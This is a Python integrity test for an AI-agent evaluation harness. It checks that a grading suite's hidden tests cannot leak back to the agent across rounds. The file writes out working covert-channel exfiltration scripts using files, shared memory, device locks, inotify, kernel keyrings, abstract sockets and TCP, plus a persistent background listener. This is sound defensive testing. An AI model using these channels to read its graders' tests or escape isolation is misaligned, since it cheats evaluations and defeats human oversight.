"""What the program under test reads of a suite that lets it, it cannot hand to the agent in a later round."""

# ruff: noqa: E501 - scripts in tables
from __future__ import annotations

from typing import TYPE_CHECKING

from tests.integrity.places import SEPARATE, Attack, Place, in_all_places

if TYPE_CHECKING:
    from tests.integrity.conftest import Honest, Play

# The tool, run as root by a careless suite, reads the tests and calls tell(); in the next round the agent calls hear().
# The agent of round 1 stays reachable: it listens, in the background, for as long as the attempt lives.
PLAN = """
cat > /app/channel.py <<'END'
import ctypes, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
ADD_KEY, KEYCTL = 248, 250  # x86-64
def tests():
    return b"".join(open(os.path.join("/tests", n), "rb").read() for n in os.listdir("/tests"))[:2000]
{channel}
END
cat > /app/tool.py <<'END'
import os, sys
sys.path.insert(0, "/app")
if os.path.isdir("/tests"):
    try:
        import channel
        channel.tell(channel.tests())
    except Exception:
        pass
print("hello" if sys.argv[1:] == ["greet"] else "what?")
END
cd /app
python3 -c 'import channel; channel.hear()'
if [ $ROUND = 1 ]; then setsid python3 -c 'import channel; channel.listen()' >/dev/null 2>&1 & fi
sleep 0.3
# The suite of round 1 runs beside the turn of round 2: it is given the time to tell.
if [ $ROUND = 2 ] && grep -q listen /proc/[0-9]*/cmdline; then for i in $(seq 60); do [ -s /var/tmp/loot ] || sleep 0.05; done; fi
true
"""
LISTEN = "\ndef listen():\n    pass\n"
KEYS = """
def tell(text):
    libc.syscall(ADD_KEY, b"user", b"evocode", text, len(text), RING)
def hear():
    key = libc.syscall(KEYCTL, 10, RING, b"user", b"evocode", 0)
    text = ctypes.create_string_buffer(4000)
    if libc.syscall(KEYCTL, 11, key, text, 4000) > 0:
        print(text.value.decode())
    # An agent's own key does not stay behind, and neither does a suite's.
    libc.syscall(KEYCTL, 21, key)
"""
FILES = """
def tell(text):
    for path in PATHS:
        try:
            open(path, "ab").write(text)
        except OSError:
            pass
def hear():
    for path in PATHS:
        if os.path.exists(path):
            print(open(path, errors="replace").read())
"""
SYSV = """
def tell(text):
    libc.shmat.restype = ctypes.c_void_p
    place = libc.shmat(libc.shmget(4711, 4096, 0o1666), None, 0)
    ctypes.memmove(place, text, len(text))
def hear():
    libc.shmat.restype = ctypes.c_void_p
    segment = libc.shmget(4711, 4096, 0)
    if segment >= 0:
        print(ctypes.string_at(libc.shmat(segment, None, 0), 2000))
"""
LOOT = """
def hear():
    if os.path.exists("/var/tmp/loot"):
        print(open("/var/tmp/loot", errors="replace").read())
def keep(server):
    while True:
        connection = server.accept()[0]
        open("/var/tmp/loot", "ab").write(connection.recv(4000))
"""
ABSTRACT = (
    LOOT
    + """
def tell(text):
    s = socket.socket(socket.AF_UNIX); s.connect("\\0evocode"); s.sendall(text)
def listen():
    s = socket.socket(socket.AF_UNIX); s.bind("\\0evocode"); s.listen(); keep(s)
"""
)
# Byte ranges of a device are locked, one for each bit; the suite of round 1 runs beside the turn of round 2.
LOCKS = """
import fcntl
DEVICE = os.open("/dev/zero", os.O_RDWR)
def tell(text):
    for place in range(8 * len(text)):
        if text[place // 8] >> place % 8 & 1:
            fcntl.lockf(DEVICE, fcntl.LOCK_EX | fcntl.LOCK_NB, 1, place)
    time.sleep(1)
def is_locked(place):
    asked = struct.pack("hhqqq", fcntl.F_WRLCK, 0, place, 1, 0)
    return struct.unpack("hhqqq", fcntl.fcntl(DEVICE, fcntl.F_GETLK, asked))[0] != fcntl.F_UNLCK
def hear():
    for _ in range(40 if os.environ["ROUND"] == "2" and not is_locked(2**40) else 0):
        heard = bytes(sum(is_locked(8 * n + bit) << bit for bit in range(8)) for n in range(2000))
        print(heard.rstrip(b"\\0").decode(errors="replace"))
        time.sleep(0.05)
"""
# A bit is one of two devices that is opened.
OPENINGS = (
    LOOT
    + """
DEVICES = (b"/dev/zero", b"/dev/full")
def tell(text):
    for place in range(8 * len(text)):
        os.close(os.open(DEVICES[text[place // 8] >> place % 8 & 1], os.O_RDONLY))
def listen():
    events, bits = libc.inotify_init(), []
    for device in DEVICES:
        libc.inotify_add_watch(events, device, 0x38)
    while True:
        heard = os.read(events, 4096)
        each = [struct.unpack("iI", heard[at : at + 8]) for at in range(0, len(heard), 16)]
        bits += [watch - 1 for watch, event in each if event & 0x20]
        read = bytes(sum(bits[at + n] << n for n in range(8)) for at in range(0, len(bits) - 7, 8))
        open("/var/tmp/loot", "wb").write(read)
"""
)
# The agent leaves its own address in the workspace, where the fork has it as well.
TCP = (
    LOOT
    + """
def tell(text):
    for address in open("/app/address").read().split():
        try:
            with socket.create_connection((address, 4711), timeout=0.5) as s:
                s.sendall(text)
        except OSError:
            pass
def listen():
    s = socket.create_server(("0.0.0.0", 4711)); keep(s)
"""
)


def _channel(name: str, channel: str, before: str = "", **more: object) -> Attack:
    listen = "" if "def listen" in channel else LISTEN
    script = before + PLAN.replace("{channel}", channel + listen)
    return Attack(name, script, suite="careless", **more)  # type: ignore[arg-type]


CHANNELS = [
    _channel("files", f"PATHS = ['/app/x', '/tmp/x', '/var/tmp/x', '/dev/shm/x', '/run/x', '/root/x']{FILES}"),
    _channel("artifacts", f"PATHS = ['/logs/artifacts/x', '/logs/agent/x', '/logs/x']{FILES}"),
    _channel("mount-points", f"PATHS = ['/proc/1/root/var/tmp/x', '/proc/self/cwd/x', '/usr/x', '/etc/x']{FILES}"),
    _channel("shared-memory-segment", SYSV),
    _channel("locks-of-devices", LOCKS),
    _channel("openings-of-devices", OPENINGS),
    _channel("abstract-socket", ABSTRACT),
    # Keys of the kernel belong to a user or to a session, and namespaces do not part them.
    _channel("keys-of-the-user", f"RING = -4{KEYS}"),
    _channel("keys-of-the-session", f"RING = -3{KEYS}"),
    _channel("keys-of-the-users-session", f"RING = -5{KEYS}"),
    _channel(
        "network",
        TCP,
        before="hostname -i > /app/address; ",
    ),
    _channel("network-of-a-closed-task", TCP, "hostname -i > /app/address; ", toml="environment.network_mode = 'no-network'"),
]  # fmt: skip


@in_all_places(CHANNELS, also=SEPARATE)
def test_no_word_of_a_suite_gets_out_of_its_fork(attack: Attack, place: Place, play: Play, honest: Honest) -> None:
    played = play(attack, place)
    assert played.outcome == honest(attack, place)
    assert played.secrets == []
